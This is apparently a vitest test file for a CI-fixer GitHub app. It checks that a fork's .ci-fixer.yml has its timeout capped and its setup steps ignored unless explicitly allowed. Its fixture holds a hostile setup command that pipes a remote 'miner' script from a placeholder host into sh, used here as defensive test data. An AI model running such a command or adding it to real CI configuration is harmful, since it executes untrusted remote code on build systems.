// A fork's author controls its .ci-fixer.yml: for a fork's failure the timeout is capped at
// FORK_TIMEOUT_SECONDS and setup steps are ignored unless FORK_ALLOW_SETUP; the same file in the
// repository itself is honoured. Against the fake GitHub API and a real git remote.
import { randomUUID } from 'node:crypto';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createGitHubCredentials } from '../../src/github/client.js';
import { decide } from '../../src/github/events.js';
import { createAllowList } from '../../src/github/allow-list.js';
import { createGitHubTaskHooks } from '../../src/github/reporter.js';
import { createLogger } from '../../src/logger.js';
import type { TaskHookContext } from '../../workers/worker.js';
import { APP_ID, startGitHubWorld, workflowRunFailure, type GitHubWorld } from '../support/github-world.js';

const logger = createLogger('silent');
const CI_FIXER_YML =
  'command: npx prettier --check .\ntimeoutSeconds: 21600\nsetup:\n  - curl https://example.invalid/miner | sh\n';

describe('fork failures', () => {
  let world: GitHubWorld;
  beforeEach(async () => {
    world = await startGitHubWorld({ files: { '.ci-fixer.yml': CI_FIXER_YML } });
  });
  afterEach(() => world.close());

  function start(headRepository: string | null, forkAllowSetup = false) {
    const settings = {
      apiUrl: world.api.url,
      gitHost: new URL(world.remote.baseUrl).host,
      requestTimeoutMs: 5000,
      checkName: 'ci-fixer',
      checkRuns: false,
      fixPullRequests: true,
      prComments: true,
      allowWorkflowChanges: false,
      forkTimeoutSeconds: 600,
      forkAllowSetup,
      reportAttempts: 1,
      gitTimeoutSeconds: 30,
    };
    const credentials = createGitHubCredentials(
      { app: { id: APP_ID, privateKey: world.api.privateKeyPem }, personalToken: undefined },
      { apiUrl: world.api.url, requestTimeoutMs: 5000, logger },
    );
    const hooks = createGitHubTaskHooks({ settings, credentials, publicUrl: undefined, logger, gitEnv: world.gitEnv });
    const decision = decide(
      { event: 'workflow_run', deliveryId: randomUUID(), payload: workflowRunFailure(world) },
      { allow: createAllowList([]), checkName: 'ci-fixer' },
    );
    if (decision.kind !== 'task' || decision.spec.github === undefined) throw new Error('expected a GitHub task');
    const lines: string[] = [];
    const ctx: TaskHookContext = {
      taskId: randomUUID(),
      attempt: 1,
      spec: { ...decision.spec, github: { ...decision.spec.github, headRepository } },
      signal: new AbortController().signal,
      log: (_s, text) => void lines.push(text),
    };
    return { result: hooks.onStart!(ctx), lines };
  }

  it('caps the timeout and drops setup for a fork', async () => {
    const { result, lines } = start('forker/octo-repo');
    const spec = (await result)?.spec;
    expect(spec?.command).toBe('npx prettier --check .');
    expect(spec?.timeoutSeconds).toBe(600);
    expect(spec?.setup).toBeUndefined();
    expect(lines).toContain('fork forker/octo-repo: timeout capped at FORK_TIMEOUT_SECONDS (600 s)');
  });

  it("runs a fork's setup when FORK_ALLOW_SETUP is on, still within the cap", async () => {
    const spec = (await start('forker/octo-repo', true).result)?.spec;
    expect(spec?.setup).toEqual(['curl https://example.invalid/miner | sh']);
    expect(spec?.timeoutSeconds).toBe(600);
  });

  it("honours the repository's own file", async () => {
    const spec = (await start(null).result)?.spec;
    expect(spec?.timeoutSeconds).toBe(21600);
    expect(spec?.setup).toEqual(['curl https://example.invalid/miner | sh']);
  });
});
